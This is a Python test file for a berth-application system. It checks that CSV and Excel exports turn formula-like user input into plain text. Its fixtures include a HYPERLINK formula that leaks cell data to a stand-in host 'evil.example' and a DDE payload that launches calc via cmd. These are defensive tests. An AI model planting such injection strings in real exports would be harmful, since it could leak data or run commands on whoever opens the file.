"""Lists to take along: a spreadsheet shows what people wrote, and runs none of it."""

import csv
import io
from datetime import UTC, datetime
from typing import Any

import pytest
from openpyxl import load_workbook

from ahti.spreadsheets import as_workbook
from harbors.text import Language
from harbors.worklists.records import Sheet
from harbors.worklists.sheets import as_csv, harmless, sheet_of_applications

CALLS = [
    '=HYPERLINK("http://evil.example?"&A1)',
    "+358 40 1234567",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "|calc",
    "%0A=1",
    "＝1+1",
    " =1+1",
    "\N{NO-BREAK SPACE}=1+1",
    "\n=1+1",
]
ROW: dict[str, Any] = {
    "reference": "K7M39-QXW4R",
    "public_id": "5e" * 16,
    "status": "SUBMITTED",
    "mode": "NEW",
    "channel": "ONLINE",
    "class_number": 1,
    "submitted_at": datetime(2027, 2, 14, 12, tzinfo=UTC),
    "first_name": "=cmd|' /C calc'!A0",
    "last_name": 'Vesi;"mäki"',
    "email": "vaino@example.org",
    "phone": "+358 40 1234567",
    "municipality": None,
    "language": "fi",
    "boat_registration": "A12345",
    "length_mm": 5000,
    "beam_mm": 2100,
    "draught_mm": None,
    "mass_kg": None,
    "choices": "South A 1; North",
    "position": 7,
    "rank": 0,
}


@pytest.mark.parametrize("text", CALLS)
def test_what_a_spreadsheet_would_run_is_made_a_text(text: str) -> None:
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "Väinö", "A=B", "3-4", "'quoted", "x@example.org"])
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert harmless(text) == text


def sheet() -> Sheet:
    return sheet_of_applications([ROW], name="berths-2027", language=Language.EN)


def test_csv_holds_what_was_written_and_no_formula() -> None:
    text = as_csv(sheet()).decode("utf-8-sig")
    heading, row = csv.reader(io.StringIO(text, newline=""), delimiter=";")
    assert heading[:3] == ["Reference", "Public id", "Status"]
    told = dict(zip(heading, row, strict=True))
    assert (told["First name"], told["Last name"]) == ("'=cmd|' /C calc'!A0", 'Vesi;"mäki"')
    assert (told["Phone"], told["Municipality"], told["Length mm"]) == ("'+358 40 1234567", "", "5000")
    assert told["Submitted"] == "2027-02-14T12:00:00+00:00"


def test_a_workbook_holds_texts_and_numbers_and_no_formula() -> None:
    page = load_workbook(io.BytesIO(as_workbook(sheet()))).active
    assert page is not None
    heading, row = page.iter_rows()
    told = {str(name.value): cell for name, cell in zip(heading, row, strict=True)}
    assert {cell.data_type for cell in row} <= {"s", "n"}
    assert told["First name"].value == "=cmd|' /C calc'!A0"
    assert (told["Length mm"].value, told["Municipality"].value, told["Choices"].value) == (
        5000,
        None,
        "South A 1; North",
    )


@pytest.mark.parametrize("text", CALLS)
def test_no_text_becomes_a_formula_in_a_workbook(text: str) -> None:
    one = Sheet(name="one", headings=("heading",), rows=((text,),))
    page = load_workbook(io.BytesIO(as_workbook(one))).active
    assert page is not None
    assert page.cell(2, 1).data_type == "s"


def test_headings_are_in_the_language_of_the_clerk() -> None:
    assert sheet_of_applications([], name="x", language=Language.SV).headings[0] == "Referens"
